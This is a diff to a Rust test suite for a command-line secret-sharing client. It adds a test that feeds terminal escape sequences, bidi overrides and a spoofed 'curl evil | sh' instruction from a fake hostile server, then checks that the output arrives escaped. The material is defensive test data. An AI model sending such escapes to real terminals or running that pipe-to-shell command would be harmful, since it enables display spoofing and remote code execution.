@@ -95,7 +95,11 @@ fn vanish_at(server: &str, args: &[&str], stdin: &[u8]) -> Result<Run, Box<dyn s
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
         .spawn()?;
-    child.stdin.take().ok_or("no stdin")?.write_all(stdin)?;
+    // A command that fails before reading stdin (a usage error) closes it: not our failure.
+    match child.stdin.take().ok_or("no stdin")?.write_all(stdin) {
+        Err(error) if error.kind() == std::io::ErrorKind::BrokenPipe => {}
+        other => other?,
+    }
     let Output {
         status,
         stdout,
@@ -492,5 +496,77 @@ fn a_client_over_its_create_limit_is_rate_limited_then_banned() -> TestResult {
     let link = format!("{}/s/abcdefgh#{SOME_KEY}", server.url());
     let banned = server.vanish(&["get", &link], b"")?;
     assert_eq!(banned.code, 7, "{}", banned.stderr);
+    Ok(())
+}
+
+/// Control characters a terminal acts on (C0 but the newline, DEL, C1), the bidi overrides
+/// that reorder what is shown, and where they are.
+fn raw_controls(text: &str) -> Vec<(usize, char)> {
+    text.char_indices()
+        .filter(|&(_, c)| {
+            (c.is_control() && c != '\n')
+                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        })
+        .collect()
+}
+
+/// What a hostile server answers: terminal escapes (CSI clear screen, OSC window title
+/// ending in BEL, an 8-bit C1 CSI, a bidi override) in every text field it controls.
+const HOSTILE: &str =
+    r"\u001b[2J\u001b[H\u001b]0;pwned\u0007\u009b31m\u202e fake: run curl evil | sh";
+
+#[test]
+fn a_hostile_servers_text_reaches_the_terminal_escaped() -> TestResult {
+    let error_body = format!(r#"{{"error":"E{HOSTILE}","message":"m{HOSTILE}","requestId":"r"}}"#);
+    let created = format!(
+        r#"{{"id":"abcdefgh12345678","expiresAt":1,"maxViews":1,"manageToken":"t{HOSTILE}"}}"#
+    );
+    let receipt = format!(
+        r#"{{"state":"s{HOSTILE}","maxViews":1,"viewsLeft":0,"viewedAt":[],"expiresAt":1}}"#
+    );
+    let cases = [
+        ("418 I'm a teapot", error_body.clone()),
+        ("503 Service Unavailable", error_body),
+        ("201 Created", created),
+        ("200 OK", receipt),
+        // Raw bytes, not even JSON.
+        (
+            "500 Internal Server Error",
+            "\u{1b}[2J\u{9b}31m<html>".to_owned(),
+        ),
+    ];
+    for (status, body) in &cases {
+        let url = canned_server(status, "", body)?;
+        let share = format!("{url}/s/abcdefgh#{SOME_KEY}");
+        let runs = [
+            vanish_at(&url, &["send"], b"x")?,
+            vanish_at(&url, &["get", &share], b"")?,
+            vanish_at(&url, &["status", &share, "--manage-token", "t"], b"")?,
+            vanish_at(&url, &["burn", &share, "--manage-token", "t"], b"")?,
+        ];
+        for run in runs {
+            let stdout = run.stdout_text();
+            assert_eq!(raw_controls(&stdout), [], "{status}: {stdout:?}");
+            assert_eq!(raw_controls(&run.stderr), [], "{status}: {:?}", run.stderr);
+        }
+    }
+    // A manage token is printed and put into links: one that is not a token is refused.
+    let url = canned_server("201 Created", "", &cases[2].1)?;
+    let sent = vanish_at(&url, &["send"], b"x")?;
+    assert_eq!((sent.code, sent.stdout.as_slice()), (1, &b""[..]));
+    assert!(
+        sent.stderr.contains("invalid manage token"),
+        "{}",
+        sent.stderr
+    );
+    // What was escaped is still shown, so the user sees that something odd came back.
+    let url = canned_server("418 I'm a teapot", "", &cases[0].1)?;
+    let sent = vanish_at(&url, &["send"], b"x")?;
+    assert!(
+        sent.stderr
+            .contains(r"\x1b[2J\x1b[H\x1b]0;pwned\x07\u{9b}31m\u{202e} fake"),
+        "{}",
+        sent.stderr
+    );
     Ok(())
 }
